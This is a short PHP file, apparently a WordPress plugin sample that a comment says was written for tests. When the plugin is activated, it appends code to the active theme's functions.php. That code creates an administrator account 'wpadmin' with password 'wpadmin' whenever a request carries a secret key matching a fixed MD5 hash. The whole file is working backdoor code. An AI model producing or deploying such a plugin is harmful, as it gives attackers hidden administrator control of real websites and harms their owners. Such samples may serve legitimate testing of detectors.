<?php
// a plugin that plants an account backdoor into the active theme (written for the tests,
// never run)
function planted_code() {
    $c = "\nadd_action('init', function () {\n";
    $c .= "  if (md5(\$_GET['k'] ?? '') === '0cc175b9c0f1b6a831c399e269772661' && !username_exists('wpadmin')) {\n";
    $c .= "    \$id = wp_create_user('wpadmin', 'wpadmin');\n";
    $c .= "    (new WP_User(\$id))->set_role('administrator');\n  }\n});\n";
    return $c;
}
register_activation_hook(__FILE__, function () {
    $f = fopen(get_template_directory() . '/functions.php', 'a+');
    fwrite($f, planted_code());
    fclose($f);
});
